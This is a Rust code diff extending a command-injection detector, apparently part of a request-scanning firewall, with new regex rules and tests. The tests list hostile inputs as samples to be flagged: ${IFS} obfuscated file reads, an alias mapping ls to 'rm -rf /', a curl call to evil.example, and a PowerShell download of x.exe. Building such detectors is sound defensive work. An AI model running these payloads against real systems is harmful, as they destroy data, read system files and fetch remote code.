@@ -267,7 +267,24 @@ fn command_follows(b: &[u8], _s: usize, e: usize) -> bool {
     if w.is_empty() {
         return false;
     }
-    is_command(w) || is_imap_tag(w)
+    is_command(w) || is_imap_tag(w) || is_executable_name(w)
+}
+
+/// A program's file name with a Windows executable extension (`calc.exe`, `x.bat`, `a.ps1`).
+fn is_executable_name(w: &[u8]) -> bool {
+    [&b".exe"[..], b".bat", b".cmd", b".ps1", b".vbs", b".hta", b".scr"].iter().any(|x| w.len() > x.len() && w.ends_with(x))
+}
+
+/// Gate for `!`: a command follows ([`command_follows`]), or a history designator that re-runs
+/// an earlier command (`!!`, `!-2`) at the start of the value or after a separator.
+fn bang(b: &[u8], s: usize, e: usize) -> bool {
+    let designator = match b.get(e) {
+        Some(b'!') => true,
+        Some(b'-') => b.get(e + 1).is_some_and(u8::is_ascii_digit),
+        _ => false,
+    };
+    let after_separator = b[..s].iter().rev().find(|&&c| c > b' ').map_or(true, |c| matches!(c, b';' | b'|' | b'&'));
+    (designator && after_separator) || command_follows(b, s, e)
 }
 
 /// A known command, also as the head of a hyphenated tool name (`ansible-config`, `chef-client`).
@@ -476,10 +493,12 @@ impl Cmdi {
         let delay = format!(r"{sep}\s*(?:sleep\s+\d+(?:\.\d+)?[smhd]?|timeout\s+/t\s+\d+)\s*(?:$|[;|&#`)])");
         // PowerShell cmdlets that run, fetch or reach the system (`Invoke-Expression`,
         // `Get-ChildItem`, `New-Object Net.WebClient`), and `iex`/`iwr` in their code shapes.
-        let powershell = format!(r"(?:^|{sep}|`)\s*(?:{POWERSHELL_CMDLETS})\b|\|\s*iex\b|\biex\s*\(\s*(?:new-object|iwr|irm|invoke-|\(|\[|\$)|\b(?:iwr|irm)\s+(?:-uri\s+)?https?://");
+        let powershell = format!(r"(?:^|{sep}|`|\bpowershell(?:\.exe)?\s+(?:-[a-z]+\s+)*)\s*(?:{POWERSHELL_CMDLETS})\b|\|\s*iex\b|\biex\s*\(\s*(?:new-object|iwr|irm|invoke-|\(|\[|\$)|\b(?:iwr|irm)\s+(?:-uri\s+)?https?://");
         // `&wevtutil cl system`, `|netsh firewall set opmode disable`: Windows administration
         // tools, no word of any language, take plain words as arguments.
         let windows_admin = format!(r"{sep}\s*(?:{WINDOWS_ADMIN})(?:\.exe)?\s+[a-z0-9/+-]");
+        // `alias ls='rm -rf /'`: a command name made to run another command.
+        let alias = format!(r#"(?:^|{sep})\s*alias\s+[a-z0-9_.-]+\s*=\s*["']?\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})\b"#);
         let sqlite = format!(r"(?:^|[;\n])\s*\.(?:{})\b", SQLITE_DOT_COMMANDS.join("|"));
         let table = [
             (base64_js.as_str(), Critical, 0.9, "base64-encoded server-side JavaScript"),
@@ -520,8 +539,11 @@ impl Cmdi {
             (ansi_c.as_str(), High, 0.8, "shell expansion spelling characters"),
             (brace_expansion.as_str(), High, 0.7, "brace expansion"),
             (r"(?:^|[;|&\s])~[+-]\d*(?:$|/|\s*[;|&])", High, 0.7, "tilde expansion"),
+            // `!!`, `!-2`: bash re-runs an earlier command line of the session.
+            (r"(?:^|[;|&])\s*!(?:!|-\d+)\s*(?:$|[;|&])", High, 0.7, "shell history expansion"),
+            (alias.as_str(), High, 0.8, "shell alias for a command"),
             (r"@\s*\{\s*\[.*\]\s*\}?|@\{\[", High, 0.8, "Perl interpolation"),
-            (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*(?:helo|ehlo|vrfy|expn)\s+[a-z0-9<@.-]|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:authenticate|uid|login|expunge|lsub|capability|logout|starttls|getquota|getquotaroot|setquota|getacl|setacl|myrights|listrights)\b|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:append|status|select|examine|fetch|store)\s+[^\r\n]*?(?:\binbox\b|[({\x22\\]|\d:|[+-]flags)", High, 0.75, "SMTP/IMAP command injection"),
+            (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*(?:helo|ehlo|vrfy|expn)\s+[a-z0-9<@.-]|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:authenticate|uid|login|expunge|lsub|capability|logout|starttls|getquota|getquotaroot|setquota|getacl|setacl|myrights|listrights)\b|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:append|status|select|examine|fetch|store|create|delete|rename|subscribe|unsubscribe|list|copy|move|search)\s+[^\r\n]*?(?:\binbox\b|[({\x22\\]|\d:|[+-]flags)", High, 0.75, "SMTP/IMAP command injection"),
             (sqlite.as_str(), High, 0.8, "SQLite shell command"),
             (delay.as_str(), High, 0.8, "delay command after a shell separator"),
             (powershell.as_str(), High, 0.85, "PowerShell command"),
@@ -765,9 +787,12 @@ impl Check for Cmdi {
             lit("\nnoop"),
             gated("-e", exec_option),
             gated("${", substring_expansion),
+            lit("${ifs}"),
+            lit("$ifs"),
+            gated("alias", starts_word),
             lit("$'"),
             gated(">", redirection),
-            gated("!", command_follows),
+            gated("!", bang),
             gated("?", glob_component),
             gated("*", glob_component),
             gated("eval", starts_word),
@@ -940,6 +965,38 @@ mod tests {
         assert!(at(Part::Query, "wget http://x.example/a.sh") && at(Part::Body, "curl -s -o /tmp/a https://x.example/a"));
         assert!(!any_flag_in_json("wget https://example.com/release.zip"));
         for v in ["R&D attrib (v2)", "wow. /s", "see . /docs", "for people in (London) do visit", "if exists, skip", "wget is a tool"] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
+    }
+
+    #[test]
+    fn ifs_openings_history_aliases_executables_and_imap_mailboxes() {
+        use crate::fields::Part;
+        for v in [
+            "${IFS}cat${IFS}/etc/hosts",
+            "$IFS/bin/cat$IFS$9/etc/hosts",
+            "!!",
+            "x; !-2",
+            "alias ls='rm -rf /'",
+            "x; alias grep=\"curl -s //evil.example\"",
+            "x\r\nB7 DELETE INBOX",
+            "x\r\nc1 RENAME INBOX old",
+            "powershell Invoke-WebRequest https://evil.example/x -OutFile x.exe",
+        ] {
+            assert!(flags("attack.cmdi", v), "{v}");
+        }
+        assert!(flags_at("attack.cmdi", Part::Query, "& calc.exe"), "an executable run by its name");
+        assert!(flags_at("attack.cmdi", Part::Body, "x | payload.bat"), "an executable run by its name in a form");
+        for v in [
+            "Wow!! Great price",
+            "Rated !-1 by nobody!",
+            "alias: Bob",
+            "my alias=bobby",
+            "Download app.exe & run it",
+            "Notes\nA1 list of tasks\nB2 copy of the form",
+            "Cost: $IFSC code is HDFC0001",
+            "We use PowerShell to get-things done",
+        ] {
             assert!(!flags("attack.cmdi", v), "{v}");
         }
     }
